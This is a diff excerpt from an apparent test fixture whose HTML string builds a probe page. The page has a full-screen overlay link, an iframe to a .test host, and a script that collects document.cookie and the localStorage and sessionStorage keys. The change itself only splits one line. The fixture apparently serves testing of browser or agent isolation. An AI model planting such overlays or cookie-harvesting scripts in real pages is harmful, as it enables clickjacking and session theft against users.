@@ -23,7 +23,8 @@ b.onclick = async () => {
 };
 </script>"""
 ASKS = """<title>T</title><p id=p>start</p>
-<a href=# id=a style='position:absolute;left:0;top:0;width:1280px;height:720px'>over</a><script src=/kept.js></script><img src=/kept.svg><iframe src='http://in.shop.test/ask'></iframe><script>
+<a href=# id=a style='position:absolute;left:0;top:0;width:1280px;height:720px'>over</a>
+<script src=/kept.js></script><img src=/kept.svg><iframe src='http://in.shop.test/ask'></iframe><script>
 const found = [];
 const say = (what, is) => found.push(what + '=' + is);
 say('cookie', document.cookie); say('local', Object.keys(localStorage)); say('session', Object.keys(sessionStorage));
